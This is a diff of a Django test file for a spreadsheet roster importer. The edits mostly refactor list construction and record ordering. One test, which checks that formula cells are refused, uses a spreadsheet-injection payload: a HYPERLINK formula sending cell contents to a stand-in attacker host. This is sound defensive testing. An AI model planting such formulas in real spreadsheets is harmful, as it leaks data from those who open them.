@@ -63,7 +63,7 @@ def test_importing_the_same_file_again_changes_nothing(demo, tan_tien, post_rost
     assert response.status_code == 302
     after = counts(tan_tien)
     assert after[:3] == before[:3]
-    record = RosterImport.objects.first()
+    record = RosterImport.objects.order_by("-created_at", "-pk")[0]
     assert (record.units_created, record.units_updated, record.people_created, record.roles_granted) == (0, 0, 0, 0)
 
 
@@ -99,7 +99,7 @@ def test_empty_rows_are_skipped_and_half_empty_rows_refused(demo, tan_tien, post
     body = refused(
         post_roster,
         tan_tien,
-        workbook([UNIT, ["", "", "", "", ""], UNIT[:2] + ["", "", ""]], [PERSON, [None] * 6, person]),
+        workbook([UNIT, ["", "", "", "", ""], [*UNIT[:2], "", "", ""]], [PERSON, [None] * 6, person]),
         "Trang “Đơn vị”, dòng 4, cột “Loại đơn vị”: cần nhập.",
         "Trang “Người dùng”, dòng 4, cột “Tên đăng nhập”: cần nhập.",
         "Trang “Người dùng”, dòng 4, cột “Vai trò”: cần nhập.",
@@ -124,7 +124,7 @@ def test_duplicate_usernames_and_emails_are_refused(demo, tan_tien, post_roster)
 
 def test_unknown_roles_and_unit_kinds_are_refused(demo, tan_tien, post_roster):
     unit = ["", "Trạm Y tế xã", "", "Bệnh viện", ""]
-    person = PERSON[:4] + ["Chủ tịch; Cán bộ báo cáo"] + [""]
+    person = [*PERSON[:4], "Chủ tịch; Cán bộ báo cáo", ""]
     province_role = ["Vi Văn Hải", "tt.hai", "", "Phòng Văn hóa - Xã hội", "Cán bộ theo dõi cấp tỉnh", ""]
     refused(
         post_roster,
@@ -160,7 +160,7 @@ def test_a_units_parent_missing_or_impossible_is_refused(demo, tan_tien, post_ro
 
 
 def test_a_person_in_a_unit_that_does_not_exist_is_refused(demo, tan_tien, post_roster):
-    person = PERSON[:3] + ["Phòng Tư pháp"] + PERSON[4:]
+    person = [*PERSON[:3], "Phòng Tư pháp", *PERSON[4:]]
     refused(
         post_roster,
         tan_tien,
@@ -170,7 +170,14 @@ def test_a_person_in_a_unit_that_does_not_exist_is_refused(demo, tan_tien, post_
 
 
 def test_a_formula_cell_is_refused_and_never_evaluated(demo, tan_tien, post_roster):
-    person = ['=HYPERLINK("http://ke-xau.example/?d="&B2,"Bấm")', "tt.a", "", "Phòng Văn hóa - Xã hội", "Cán bộ báo cáo", ""]
+    person = [
+        '=HYPERLINK("http://ke-xau.example/?d="&B2,"Bấm")',
+        "tt.a",
+        "",
+        "Phòng Văn hóa - Xã hội",
+        "Cán bộ báo cáo",
+        "",
+    ]
     refused(
         post_roster,
         tan_tien,
